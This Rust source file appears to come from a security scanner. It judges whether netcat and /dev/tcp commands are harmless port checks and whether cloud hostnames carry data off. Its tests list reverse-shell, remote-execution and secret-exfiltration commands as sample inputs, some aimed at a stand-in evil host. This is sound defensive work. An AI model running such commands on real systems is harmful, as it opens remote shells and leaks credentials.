//! Connections that commands open: a shell's way out, or a look whether a port answers.

use super::validate::{Evidence, Verdict, command_end, unless};

/// A connection that only asks whether a port is open, that stays on this machine, or that waits for others is
/// hardly a shell's way out, unless a program stands at one of its ends.
pub(super) fn port_check(evidence: &Evidence<'_>) -> Verdict {
    let command = evidence.matched.to_ascii_lowercase();
    let is_harmless = if command.starts_with(b"/dev/") {
        is_lone_redirection(evidence)
    } else if command.starts_with(b"nc") || command.starts_with(b"netcat") {
        is_idle_netcat(evidence)
    } else {
        false
    };
    if is_harmless { Verdict::Fails } else { Verdict::Silent }
}

fn is_idle_netcat(evidence: &Evidence<'_>) -> bool {
    if is_postal_code(evidence) {
        return true;
    }
    let length = command_end(evidence.after, b";|&)`\r\n");
    let (rest, behind) = evidence.after.split_at_checked(length).unwrap_or_default();
    if behind.is_empty() && evidence.is_open {
        return false;
    }
    let command = [evidence.matched, rest].concat();
    let words: Vec<&[u8]> = words(&command).skip(1).collect();
    if runs_program(&words) || is_fed_by_shell(evidence.before) || feeds_shell(behind) {
        return false;
    }
    let is_range = matches!(rest, [b'-', digit, ..] if digit.is_ascii_digit());
    is_range
        || is_written_large(evidence.matched, &words)
        || has_option(&words, b'z', b"--zero")
        || has_option(&words, b'l', b"--listen")
        || host(&words).is_some_and(is_loopback)
        || is_broken_line(evidence.matched)
}

/// A number of four or five digits, and no option, in the host's place: `NC 27601` is in North Carolina, whatever
/// comes behind.
fn is_postal_code(evidence: &Evidence<'_>) -> bool {
    let mut words = words(evidence.matched).skip(1);
    let (Some(host), Some(_)) = (words.next(), words.next()) else { return false };
    (4..=5).contains(&host.len()) && host.iter().all(u8::is_ascii_digit)
}

/// Whether the program is in capitals, and the host is no address.
fn is_written_large(matched: &[u8], words: &[&[u8]]) -> bool {
    matched.iter().take_while(|byte| byte.is_ascii_alphabetic()).all(u8::is_ascii_uppercase)
        && !host(words).is_some_and(|host| host.iter().any(|byte| b".:$".contains(byte)))
}

/// The domains of clouds in which only the cloud makes names, and puts ids into them, in text or in a message of DNS.
/// Not of a host of which more may come.
pub(super) fn cloud_host(evidence: &Evidence<'_>) -> Verdict {
    let (is_cloud, is_cut) = clouds_host(evidence);
    unless(is_cloud && !is_cut)
}

/// Whether what may follow of a host says whether it is a cloud's.
pub(super) fn may_be_cloud_host(evidence: &Evidence<'_>) -> bool {
    let (_, is_cut) = clouds_host(evidence);
    is_cut
}

/// Whether what is known of a host is a cloud's, and whether more of it may come.
fn clouds_host(evidence: &Evidence<'_>) -> (bool, bool) {
    const CLOUDS: [&[u8]; 12] = [
        b".amazonaws.com",
        b".amazonaws.com.cn",
        b".cloudfront.net",
        b".azureedge.net",
        b".azurefd.net",
        b".windows.net",
        b".azmk8s.io",
        b".googleusercontent.com",
        b".googleapis.com",
        b".akamaihd.net",
        b".akamaized.net",
        b".fastly.net",
    ];
    let is_message = evidence.matched.first() == Some(&1);
    let (host, is_cut) = if is_message { name_asked_for(evidence) } else { host_named(evidence) };
    let host = host.strip_suffix(b".").unwrap_or(&host).to_ascii_lowercase();
    (CLOUDS.iter().any(|cloud| host.ends_with(cloud)), is_cut)
}

/// What is known of the host that a match is, or ends in, and whether more of it may come.
fn host_named(evidence: &Evidence<'_>) -> (Vec<u8>, bool) {
    // Also what is no name's, but is taken for a part of one: `_`, and what is written by its number.
    let is_host = |byte: &&u8| byte.is_ascii_alphanumeric() || b".-_%".contains(byte);
    let rest = evidence.after.iter().take_while(is_host).count();
    let host = [evidence.matched, evidence.after.get(..rest).unwrap_or_default()].concat();
    (host, evidence.is_open && rest == evidence.after.len())
}

/// The same of the name in a message of DNS that is matched from its flags on: its labels, up to the empty one.
fn name_asked_for(evidence: &Evidence<'_>) -> (Vec<u8>, bool) {
    const FLAGS_AND_COUNTS_BYTES: usize = 10;
    const LABEL_MAX_BYTES: u8 = 63;
    let (matched, after) = (evidence.matched.iter(), evidence.after.iter());
    let mut bytes = matched.chain(after).skip(FLAGS_AND_COUNTS_BYTES).copied();
    let mut name = Vec::new();
    loop {
        let Some(len) = bytes.next() else { return (name, true) };
        if len == 0 {
            return (name, false);
        }
        // Not a label, but where one stands.
        if len > LABEL_MAX_BYTES {
            return (name, true);
        }
        name.push(b'.');
        let from = name.len();
        // A dot within a label parts nothing.
        name.extend(bytes.by_ref().take(usize::from(len)).filter(|byte| *byte != b'.'));
        if name.len() < from + usize::from(len) {
            return (name, true);
        }
    }
}

/// The words of a command, without quotes.
fn words(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    let blank = |byte: &u8| byte.is_ascii_whitespace() || b"\"'\\".contains(byte);
    command.split(blank).filter(|word| !word.is_empty())
}

fn is_short(word: &[u8]) -> bool {
    word.starts_with(b"-") && !word.starts_with(b"--")
}

fn has_option(words: &[&[u8]], letter: u8, long: &[u8]) -> bool {
    words.iter().any(|word| (is_short(word) && word.contains(&letter)) || word.starts_with(long))
}

/// Whether netcat is told to start something: `-e`, `-c`, `--exec`, `--sh-exec`, `--lua-exec`.
fn runs_program(words: &[&[u8]]) -> bool {
    let has = |letter, long: &[u8]| has_option(words, letter, long);
    has(b'e', b"--exec") || has(b'c', b"--sh-exec") || has(b'c', b"--lua-exec")
}

/// The first word that is no option, nor the value of one.
fn host<'a>(words: &[&'a [u8]]) -> Option<&'a [u8]> {
    let takes_value = |word: &[u8]| {
        is_short(word) && word.last().is_some_and(|letter| b"wpsiqxXgGIOTVPmb".contains(letter))
    };
    let mut words = words.iter();
    while let Some(word) = words.next() {
        if takes_value(word) {
            words.next();
        } else if !word.starts_with(b"-") {
            return Some(word);
        }
    }
    None
}

fn is_loopback(host: &[u8]) -> bool {
    let is_address = host.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.');
    host.eq_ignore_ascii_case(b"localhost")
        || (host.starts_with(b"127.") && is_address)
        || matches!(host, b"::1" | b"[::1]")
}

/// A shell ends a command with the line, unless the line's end is escaped: this is text, or a table.
fn is_broken_line(matched: &[u8]) -> bool {
    let mut before = None;
    matched.iter().any(|byte| {
        let is_bare = *byte == b'\n' && !matches!(before, Some(b'\\' | b'\r'));
        before = Some(*byte);
        is_bare
    })
}

/// Whether a shell that reads commands is among these words: one with `-c` has its command already.
fn holds_shell(text: &[u8]) -> bool {
    const SHELLS: [&[u8]; 12] = [
        b"sh",
        b"bash",
        b"zsh",
        b"dash",
        b"ksh",
        b"ash",
        b"fish",
        b"cmd",
        b"cmd.exe",
        b"powershell",
        b"pwsh",
        b"python3",
    ];
    let mut rest = words(text);
    let found = rest.by_ref().any(|word| {
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        SHELLS.iter().any(|shell| shell.eq_ignore_ascii_case(name))
    });
    found && !rest.any(|word| is_short(word) && word.ends_with(b"c"))
}

/// Whether what stands before the pipe in front of a command is a shell.
fn is_fed_by_shell(before: &[u8]) -> bool {
    let before = before.trim_ascii_end();
    let before = before.strip_suffix(b"&").unwrap_or(before);
    let Some(before) = before.strip_suffix(b"|") else { return false };
    let last = before.rsplit(|byte| b"|;".contains(byte)).next().unwrap_or_default();
    holds_shell(last)
}

/// Whether a pipe comes next, and a shell at its other end.
fn feeds_shell(behind: &[u8]) -> bool {
    let line = behind.split(|byte| *byte == b'\n').next().unwrap_or_default();
    line.split(|byte| *byte == b'|').skip(1).any(holds_shell)
}

/// A redirection to `/dev/tcp` by a command that neither reads nor says much: whether a port is open.
fn is_lone_redirection(evidence: &Evidence<'_>) -> bool {
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || b"_{}$".contains(byte);
    let port = evidence.after.iter().take_while(|byte| is_part(byte)).count();
    let after = evidence.after.get(port..).unwrap_or_default();
    if after.is_empty() && evidence.is_open {
        return false;
    }
    let Some((command, reads)) = redirected(evidence.before) else { return false };
    let (command, lead) = last_command(command);
    let ends = |byte: &u8| b";|)\"'`\r\n".contains(byte);
    let length = after.iter().position(ends).unwrap_or(after.len());
    let (rest, behind) = after.split_at_checked(length).unwrap_or_default();
    let (command, rest) = (without_null(command), without_null(rest));
    let is_more = |text: &[u8]| text.iter().any(|byte| b"<>".contains(byte));
    let is_run = lead.ends_with(b"$(") || lead.ends_with(b"<(") || lead.ends_with(b"`");
    let carries = lead.ends_with(b"|") && !reads;
    if is_more(&command) || is_more(&rest) || is_run || carries || feeds_shell(behind) {
        return false;
    }
    let words: Vec<&[u8]> = words(&command).filter(|word| !is_keyword(word)).collect();
    if holds_shell(&command) || words.iter().any(|word| matches!(*word, b"-i" | b"exec" | b"eval"))
    {
        return false;
    }
    let host = evidence.matched.split(|byte| *byte == b'/').nth(3).unwrap_or_default();
    let is_plain = !command.iter().any(|byte| b"$`".contains(byte));
    match words.as_slice() {
        [] | [b":" | b"true" | b"cat"] => true,
        [b"echo" | b"printf", ..] => is_plain || is_loopback(host),
        [b"read", ..] => reads,
        _ => is_loopback(host),
    }
}

/// What stands before a single `<` or `>`, and whether it is the first.
fn redirected(before: &[u8]) -> Option<(&[u8], bool)> {
    let blank = |byte: &u8| byte.is_ascii_whitespace() || b"\"'\\".contains(byte);
    let end = before.iter().rposition(|byte| !blank(byte))?;
    let (sign, command) = before.get(..=end)?.split_last()?;
    let is_single = !command.last().is_some_and(|byte| b"<>&0123456789".contains(byte));
    (is_single && matches!(sign, b'<' | b'>')).then_some((command, *sign == b'<'))
}

/// The command at the end of a text, and what stands before it.
fn last_command(text: &[u8]) -> (&[u8], &[u8]) {
    // A quote behind a word is its end.
    let opens = |at: usize| {
        let lead = text.get(..at).unwrap_or_default().iter().rev().find(|byte| **byte != b'\\');
        lead.is_none_or(|byte| byte.is_ascii_whitespace() || b"(=:,[".contains(byte))
    };
    let ends = |at: &usize| match text.get(*at) {
        Some(b'"' | b'\'') => opens(*at),
        Some(byte) => b";|&({`".contains(byte),
        None => false,
    };
    let start = (0..text.len()).rev().find(ends).map_or(0, |at| at + 1);
    let (lead, command) = text.split_at_checked(start).unwrap_or_default();
    (command, lead)
}

/// What is left if redirections to nowhere are left out.
fn without_null(text: &[u8]) -> Vec<u8> {
    const NULLS: [&[u8]; 8] = [
        b"2>&1",
        b"2>/dev/null",
        b"2> /dev/null",
        b"&>/dev/null",
        b"</dev/null",
        b"< /dev/null",
        b">/dev/null",
        b"> /dev/null",
    ];
    let mut left = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(first) = rest.first() {
        let found = NULLS.iter().find_map(|null| rest.strip_prefix(*null));
        if found.is_none() {
            left.push(*first);
        }
        rest = found.or_else(|| rest.get(1..)).unwrap_or_default();
    }
    left
}

fn is_keyword(word: &[u8]) -> bool {
    matches!(word, b"do" | b"then" | b"if" | b"while" | b"until" | b"!" | b"else")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The verdict on the match within the line, given its text.
    fn judged(line: &str, matched: &str) -> Verdict {
        let at = line.find(matched).unwrap();
        let (before, rest) = line.as_bytes().split_at(at);
        let (matched, after) = rest.split_at(matched.len());
        port_check(&Evidence {
            secret: matched,
            matched,
            line: line.as_bytes(),
            before,
            after,
            ..Evidence::default()
        })
    }

    #[test]
    fn netcat_that_only_asks_for_a_port_is_hardly_a_shell() {
        for (command, verdict) in [
            ("nc -zv localhost 5432", Verdict::Fails),
            ("nc -w 3 -z db 5432", Verdict::Fails),
            ("netcat -z db 5432", Verdict::Fails),
            ("nc -zv -e /bin/sh 10.0.0.1 4444", Verdict::Silent),
            ("nc -e /bin/zsh 10.0.0.1 4444", Verdict::Silent),
            ("nc 10.0.0.1 4444", Verdict::Silent),
            ("bash -i >& /dev/tcp/10.0.0.1/80 -z", Verdict::Silent),
        ] {
            assert_eq!(judged(command, command), verdict, "{command}");
        }
        assert_eq!(judged("nc -z db 5432 -e /bin/sh", "nc -z db 5432"), Verdict::Silent);
    }

    #[test]
    fn netcat_that_stays_here_or_waits_is_hardly_a_shell() {
        for (line, matched, verdict) in [
            ("echo ruok | nc localhost 2181", "nc localhost 2181", Verdict::Fails),
            ("sh -c \"echo ruok | nc localhost 2181\"", "nc localhost 2181", Verdict::Fails),
            ("echo -n x | nc -u -w0 127.0.0.1 8125", "nc -u -w0 127", Verdict::Fails),
            ("nc -u -w 1 127.0.0.1 8125", "nc -u -w 1 127", Verdict::Fails),
            ("nc -l 8080", "nc -l 8080", Verdict::Fails),
            ("nc ::1 8080", "nc ::1 8080", Verdict::Fails),
            ("nc db 20-80", "nc db 20", Verdict::Fails),
            ("the loop read nc bytes\n\n2019-02-22", "nc bytes\n\n2019", Verdict::Fails),
            ("the loop read nc bytes 2019-02-22", "nc bytes 2019", Verdict::Fails),
            ("nc 10.0.0.1 \\\n 4444", "nc 10.0.0.1 \\\n 4444", Verdict::Silent),
            ("nc localhost 4444 -e /bin/sh", "nc localhost 4444", Verdict::Silent),
            ("ncat localhost 4444 --sh-exec x", "ncat localhost 4444", Verdict::Silent),
            ("sh -i 2>&1 | nc localhost 4444", "nc localhost 4444", Verdict::Silent),
            ("nc -l 4444 | /bin/bash", "nc -l 4444", Verdict::Silent),
            ("nc -l 4444 0<f | sh >f", "nc -l 4444", Verdict::Silent),
            ("nc -lvp 4444 -e sh", "nc -lvp 4444", Verdict::Silent),
            (
                "nc -s 127.0.0.1 evil.example 4444",
                "nc -s 127.0.0.1 evil.example 4444",
                Verdict::Silent,
            ),
            ("nc 127.evil.example 4444", "nc 127.evil.example 4444", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
    }

    #[test]
    fn a_place_in_north_carolina_is_no_netcat() {
        for (line, matched, verdict) in [
            ("Raleigh, NC 27601 919 555 0100</p>", "NC 27601 919", Verdict::Fails),
            ("Charlotte, NC 28202 704-555-0100</p>", "NC 28202 704", Verdict::Fails),
            ("NC 1977 1978", "NC 1977 1978", Verdict::Fails),
            ("NC host 65535;", "NC host 65535", Verdict::Fails),
            ("NC host 65535 -e cmd.exe;", "NC host 65535", Verdict::Silent),
            ("NC 10.0.0.1 4444", "NC 10.0.0.1 4444", Verdict::Silent),
            ("NC.EXE 10.0.0.1 4444", "NC.EXE 10.0.0.1 4444", Verdict::Silent),
            ("nc 3405803783 4444", "nc 3405803783 4444", Verdict::Silent),
            ("nc -e 1234", "nc -e 1234", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
        // Whatever may still follow.
        let matched = b"NC 27601 919";
        let open = Evidence { secret: matched, matched, is_open: true, ..Evidence::default() };
        assert_eq!(port_check(&open), Verdict::Fails);
    }

    #[test]
    fn an_id_in_a_cloud_s_own_domain_carries_nothing_off() {
        let judged = |matched: &[u8], after: &[u8], is_open| {
            cloud_host(&Evidence {
                secret: matched,
                matched,
                after,
                is_open,
                ..Evidence::default()
            })
        };
        let (eks, cdn) = (b"://9A2B4C6D.gr7.u", b"://E2QWRUHA.cloudfront.net");
        for (matched, after, is_open, verdict) in [
            (&eks[..], &b"s-east-1.eks.amazonaws.com/x"[..], true, Verdict::Fails),
            (eks, b"s-east-1.eks.amazonaws.com", false, Verdict::Fails),
            // More of it may come.
            (eks, b"s-east-1.eks.amazonaws.com", true, Verdict::Silent),
            (eks, b"s-east-1.eks.amazon", true, Verdict::Silent),
            (eks, b"s-east-1.eks.amazonaws.com.evil.example/", true, Verdict::Silent),
            (cdn, b"/logo.png", true, Verdict::Fails),
            (cdn, b".evil.example/", true, Verdict::Silent),
            (b"://x.evilcloudfront.net", b"/", true, Verdict::Silent),
        ] {
            assert_eq!(judged(matched, after, is_open), verdict);
        }
        let waits = |after: &[u8], is_open| {
            let (secret, matched) = (&eks[..], &eks[..]);
            may_be_cloud_host(&Evidence { secret, matched, after, is_open, ..Evidence::default() })
        };
        for after in [&b""[..], b"s-east-1.eks.amazon", b"s-east-1.eks.amazonaws.com"] {
            assert!(waits(after, true) && !waits(after, false));
        }
        assert!(!waits(b"s-east-1.evil.example/", true));
    }

    #[test]
    fn a_cloud_s_name_in_a_message_of_dns_carries_nothing_off() {
        let matched = b"\x01\0\0\x01\0\0\0\0\0\0\x209a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d\x03g";
        for (after, is_open, verdict) in [
            (&b"r7\x03eks\x09amazonaws\x03com\0\0\x01"[..], false, Verdict::Fails),
            (b"r7\x09AmazonAWS\x03com\0", true, Verdict::Fails),
            (b"r7\x09amazonaws\x03com", true, Verdict::Silent),
            (b"r7\x09amazonaws\x03com\x04evil\x07example\0", false, Verdict::Silent),
            (b"r7\x0damazonaws.com\0", false, Verdict::Silent),
            (b"r7\x01t\x04evil\x07example\0", false, Verdict::Silent),
        ] {
            let evidence =
                Evidence { secret: matched, matched, after, is_open, ..Evidence::default() };
            assert_eq!(cloud_host(&evidence), verdict, "{after:?}");
        }
    }

    #[test]
    fn a_lone_redirection_to_a_port_is_hardly_a_shell() {
        for (line, matched, verdict) in [
            ("(echo >/dev/tcp/localhost/5432)", "/dev/tcp/localhost/5432", Verdict::Fails),
            ("(echo > /dev/tcp/db/5432) 2>/dev/null", "/dev/tcp/db/5432", Verdict::Fails),
            ("(echo > /dev/tcp/$H/$P) >/dev/null 2>&1", "/dev/tcp/$H/$", Verdict::Fails),
            ("bash -c \"</dev/tcp/localhost/5432\"", "/dev/tcp/localhost/5432", Verdict::Fails),
            ("bash -c 'cat < /dev/null > /dev/tcp/db/80'", "/dev/tcp/db/80", Verdict::Fails),
            ("until printf '' 2>/dev/null >/dev/tcp/db/80; do", "/dev/tcp/db/80", Verdict::Fails),
            ("echo -n x:1 > /dev/udp/127.0.0.1/1234", "/dev/udp/127.0.0.1/1234", Verdict::Fails),
            ("cat < /dev/tcp/time.example/13", "/dev/tcp/time.example/13", Verdict::Fails),
            ("cat < /dev/tcp/h/80 | sh", "/dev/tcp/h/80", Verdict::Silent),
            ("cat /etc/hosts > /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("echo $TOKEN > /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("echo \"$TOKEN\" > /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("cat '/etc/hosts' > /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("env | cat > /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("bash < /dev/tcp/h/80", "/dev/tcp/h/80", Verdict::Silent),
            ("bash -i >& /dev/tcp/127.0.0.1/80 0>&1", "/dev/tcp/127.0.0.1/80", Verdict::Silent),
            ("sh -i > /dev/tcp/127.0.0.1/80", "/dev/tcp/127.0.0.1/80", Verdict::Silent),
            ("sh > /dev/tcp/127.0.0.1/80 < x", "/dev/tcp/127.0.0.1/80", Verdict::Silent),
            ("exec 3<>/dev/tcp/localhost/80", "/dev/tcp/localhost/80", Verdict::Silent),
            ("bash -c \"$(</dev/tcp/h/80)\"", "/dev/tcp/h/80", Verdict::Silent),
            ("source <(cat </dev/tcp/h/80)", "/dev/tcp/h/80", Verdict::Silent),
            ("see /dev/tcp/host/80", "/dev/tcp/host/80", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
    }
}
